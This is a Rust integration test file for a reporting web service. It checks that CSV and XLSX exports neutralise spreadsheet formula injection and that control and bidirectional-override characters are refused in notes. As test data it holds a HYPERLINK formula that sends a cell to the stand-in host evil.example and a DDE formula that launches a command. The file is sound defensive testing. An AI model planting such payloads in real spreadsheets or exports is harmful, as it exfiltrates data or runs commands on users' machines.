//! Security hardening (issue 28): what a white-box review found beyond the black-box tests.

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use serde_json::json;

use crate::helpers::TestApp;

/// RFC 4180 fields of a CSV body (quoted fields with `""`, CRLF rows), after the BOM.
fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = String::from_utf8(bytes.to_vec()).expect("utf-8");
    let text = text.trim_start_matches('\u{feff}');
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    rows
}

fn xlsx_strings(bytes: &[u8]) -> Vec<String> {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes.to_vec())).expect("an xlsx file");
    let sheet = book.worksheet_range("进度情况一览表").expect("the sheet");
    let formulas = book.worksheet_formula("进度情况一览表").expect("formulas");
    assert!(
        formulas.cells().all(|(_, _, f)| f.is_empty()),
        "the workbook holds no formula"
    );
    sheet
        .cells()
        .filter_map(|(_, _, c)| match c {
            Data::String(s) => Some(s.clone()),
            _ => None,
        })
        .collect()
}

async fn county(app: &TestApp, code: &str, name: &str) -> i64 {
    app.post(
        "/api/v1/counties",
        &json!({"division_code": code, "name": name, "kind": "county"}),
    )
    .await
    .expect(201)
    .body["id"]
        .as_i64()
        .expect("id")
}

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?d="&C6,"详情")"#;

on_both_backends! {
    async fn csv_cells_that_would_be_formulas_are_written_as_text(app: TestApp) {
        let names = ["=1+2", "+SUM(1)", "-2+3", "@SUM(A1)"];
        let codes = ["445302", "445303", "445321", "445322"];
        let mut ids = Vec::new();
        for (code, name) in codes.iter().zip(names) {
            ids.push(county(&app, code, name).await);
        }
        app.post(
            "/api/v1/funding-requests",
            &json!({"county_id": ids[0], "fiscal_year": 2021, "title": "经费", "effective_on": "2021-05-10", "note": HYPERLINK}),
        )
        .await
        .expect(201);
        let title = "=cmd|' /C calc'!A0";
        let query = format!(
            "as_of=2021-06-09&title={}&issuing_unit=%40unit",
            title.replace('|', "%7C").replace(' ', "%20").replace('\'', "%27").replace('!', "%21").replace('=', "%3D")
        );
        let live = app.get(&format!("/api/v1/reports/progress?{query}&format=csv")).await.expect(200);
        let snapshot = app
            .post("/api/v1/reports/progress/snapshots", &json!({"as_of": "2021-06-09", "title": title, "issuing_unit": "@unit"}))
            .await
            .expect(201)
            .body;
        let frozen = app
            .get(&format!("/api/v1/reports/progress/snapshots/{}?format=csv", snapshot["id"]))
            .await
            .expect(200);
        for csv in [&live, &frozen] {
            let cells: Vec<String> = csv_cells(&csv.raw).into_iter().flatten().collect();
            for cell in &cells {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "a cell a spreadsheet would evaluate: {cell:?}"
                );
            }
            for name in names {
                assert!(cells.contains(&format!("'{name}")), "{name} kept as text");
            }
            assert!(cells.contains(&format!("'{HYPERLINK}")), "the note kept as text: {cells:?}");
            assert!(cells.contains(&format!("'{title}")), "the title kept as text");
        }
        // The workbook writes the same text as plain strings, unchanged.
        let xlsx = app.get(&format!("/api/v1/reports/progress?{query}&format=xlsx")).await.expect(200);
        let strings = xlsx_strings(&xlsx.raw);
        for text in names.iter().copied().chain([HYPERLINK, title]) {
            assert!(strings.iter().any(|s| s == text), "{text} as a string cell");
        }
    }

    async fn notes_with_control_characters_are_refused(app: TestApp) {
        let id = county(&app, "445302", "云城区").await;
        let changes = format!("/api/v1/counties/{id}/plan-status-changes");
        for bad in ["\u{1b}[31m已出台", "已\u{0}出台", "方案\u{202E}txt.exe", "\u{2066}x\u{2069}", "a\u{85}b"] {
            let r = app
                .post(&changes, &json!({"stage": "issued", "effective_on": "2021-03-01", "note": bad}))
                .await
                .expect_problem(422);
            assert_eq!(r.error_fields(), vec!["note"], "{bad:?}");
            let r = app
                .post("/api/v1/funding-requests", &json!({"county_id": id, "fiscal_year": 2021, "title": "经费", "note": bad, "purpose": bad}))
                .await
                .expect_problem(422);
            let mut fields = r.error_fields();
            fields.sort();
            assert_eq!(fields, vec!["note", "purpose"], "{bad:?}");
            let r = app
                .post(&format!("/api/v1/counties/{id}/updates"), &json!({"county": {"plan_status": {"stage": "issued", "effective_on": "2021-03-01", "note": bad}}}))
                .await
                .expect_problem(422);
            assert_eq!(r.error_fields(), vec!["/county/plan_status/note"], "{bad:?}");
            // Names were already held to the rule; the right-to-left override now too.
            app.post("/api/v1/towns", &json!({"county_id": id, "name": format!("镇{bad}"), "code": "445302104", "kind": "town"}))
                .await
                .expect_problem(422);
        }
        assert_eq!(app.get(&changes).await.body, json!([]), "nothing stored");
        // Line breaks are fine in a note.
        let r = app
            .post(&changes, &json!({"stage": "issued", "effective_on": "2021-03-01", "note": "第一行\n第二行"}))
            .await
            .expect(201);
        assert_eq!(r.body["note"], "第一行\n第二行");
    }
}
